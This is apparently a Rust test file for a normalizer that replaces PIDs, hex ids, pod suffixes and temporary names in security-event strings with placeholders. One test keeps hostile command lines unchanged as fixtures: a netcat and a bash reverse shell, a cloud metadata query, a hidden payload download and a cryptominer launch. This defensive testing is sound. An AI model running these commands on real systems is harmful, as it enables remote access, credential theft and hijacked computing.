//! The rules, their examples, and what must not be merged.

use proptest::prelude::*;

use super::*;

#[test]
fn each_rule_does_what_its_row_says() {
    let mut names = std::collections::BTreeSet::new();
    for rule in RULES {
        assert!(rule.doc.len() <= 72, "{}", rule.name);
        assert!(names.insert(rule.name), "{}", rule.name);
        let changed = (rule.apply)(rule.example, rule.of);
        assert!(matches!(changed, Cow::Owned(_)), "{}", rule.name);
        assert_eq!(normal(rule.example, rule.of), rule.becomes, "{}", rule.name);
    }
}

#[test]
fn what_only_looks_like_an_accident_is_kept() {
    for text in [
        "/usr/bin/python3.11 -m http.server 8080",
        "/etc/cron.d/php-sessions",
        "/etc/rc3.d/S01ssh",
        "/usr/lib/x86_64-linux-gnu/libssl.so.3",
        "/lib64/ld-linux-x86-64.so.2",
        "/usr/bin/sha256sum -c -",
        "/usr/bin/base64 -d",
        "/usr/bin/ssh-keygen -t ed25519 -f /root/.ssh/id_ed25519",
        "/bin/nc 198.51.100.23 4444 -e /bin/sh",
        "/usr/bin/nc -l -p 31337",
        "/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
        "/usr/bin/curl http://169.254.169.254/latest/meta-data/",
        "/usr/bin/curl -so /dev/shm/.kworkerd http://198.51.100.23:8080/k",
        "/dev/shm/.kworkerd -o pool.blockforge.example:3333 -u wallet7 --threads=4",
        "/tmp/kdevtmpfsi",
        "/tmp/xmrig6",
        "/tmp/payload1 --daemon",
        "/var/www/html/wp-content/cache/page-1.html",
        "/opt/java/openjdk-17/bin/java -Xmx1g",
        "/sys/class/net/eth0/speed",
        "chown 33:33 x",
        "dead beef facade",
        "postgres-https",
        "",
    ] {
        let expected = text
            .replace("xmrig6", "xmrig<n>")
            .replace("payload1", "payload<n>");
        assert_eq!(normal(text, Of::Command), expected);
    }
}

#[test]
fn accidents_of_every_kind_are_replaced() {
    for (text, of, becomes) in [
        ("/tmp/bcadfe/part-041", Of::File, "/tmp/<random>/part-<n>"),
        ("/tmp/tmpa1b2_3d4", Of::Command, "/tmp/tmp<random>"),
        ("/tmp/tmp.Xk3v9QbT2a", Of::File, "/tmp/tmp.<random>"),
        ("/tmp/build-aB3xY9.sh", Of::Command, "/tmp/build-aB3xY9.sh"),
        ("/tmp/build-aB3xY9", Of::Command, "/tmp/build-<random>"),
        (
            "/tmp/controller-election.json",
            Of::File,
            "/tmp/controller-election.json",
        ),
        ("/etc/app/sedX3bT9q", Of::File, "/etc/app/sed<random>"),
        ("/etc/app/sedation", Of::File, "/etc/app/sedation"),
        ("/proc/self/fd/12", Of::File, "/proc/self/fd/<n>"),
        ("/dev/pts/3", Of::File, "/dev/pts/<n>"),
        ("/bin/kill -9 4242", Of::Command, "/bin/kill -9 <pid>"),
        ("gdb --pid=77 x", Of::Command, "gdb --pid=<pid> x"),
        (
            "syscall=SYS_PTRACE request=PTRACE_ATTACH pid=77 process=/bin/x",
            Of::Command,
            "syscall=SYS_PTRACE request=PTRACE_ATTACH pid=<pid> process=/bin/x",
        ),
        ("backup-29012345", Of::Workload, "backup-<n>"),
        ("web-787f45786f", Of::Workload, "web-<pod>"),
        ("node-agent-x7k2p", Of::Workload, "node-agent-<pod>"),
        ("node-agent", Of::Workload, "node-agent"),
        (
            "pod/shop/cart-6c9f7d8b54-x2vkt",
            Of::Command,
            "pod/shop/cart-<pod>",
        ),
        ("/x/4e/81dcb7f54b2df777", Of::File, "/x/<hex>"),
        (
            "sha256:20575ecebe6216036d25dab5903808211f",
            Of::Command,
            "sha256:<hex>",
        ),
        (
            "/run/ip-10-20-1-11.sock",
            Of::File,
            "/run/ip-<private>.sock",
        ),
        (
            "curl http://[fd00::17]/",
            Of::Command,
            "curl http://[<private>]/",
        ),
        ("/spool/4711", Of::File, "/spool/<n>"),
        ("--shard 1700000000", Of::Command, "--shard <n>"),
        ("id=70000", Of::Command, "id=<n>"),
        ("job48213", Of::Command, "job<n>"),
        (
            "/var/lib/mysql/binlog.000042",
            Of::File,
            "/var/lib/mysql/binlog.<n>",
        ),
    ] {
        assert_eq!(normal(text, of), becomes, "{text}");
    }
}

proptest! {
    #[test]
    fn two_runs_of_one_program_are_one(
        pid in 2_u32..4_000_000,
        hex in "[0-9a-f]{12,64}",
        uuid in "[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}",
        pod in "[bcdf2456789]{9}-[bcdf]{4}[2-9]",
        temporary in "[a-z0-9]{8}",
        day in 1..=28,
        part in 0..999,
    ) {
        prop_assume!(hex.contains(|char: char| char.is_ascii_lowercase()));
        prop_assume!(pod.split('-').all(has_digit));
        let text = format!("/proc/{pid}/root/var/{hex}/{uuid} web-{pod}/log.2026-03-{day:02}");
        prop_assert_eq!(normal(&text, Of::Command), "/proc/<pid>/root/var/<hex>/<uuid> web-<pod>/log.<time>");
        let text = format!("/tmp/tmp{temporary}/part-{part:03}");
        prop_assert_eq!(normal(&text, Of::Command), "/tmp/tmp<random>/part-<n>");
    }

    #[test]
    fn any_text_has_a_normal_form(text in "(/tmp/|\\PC|[0-9]{1,7}|[ /.:=_-]|10\\.0\\.0\\.1){0,12}") {
        for of in [Of::File, Of::Command, Of::Workload] {
            prop_assert_eq!(normal(&text, of).is_empty(), text.is_empty());
        }
    }
}
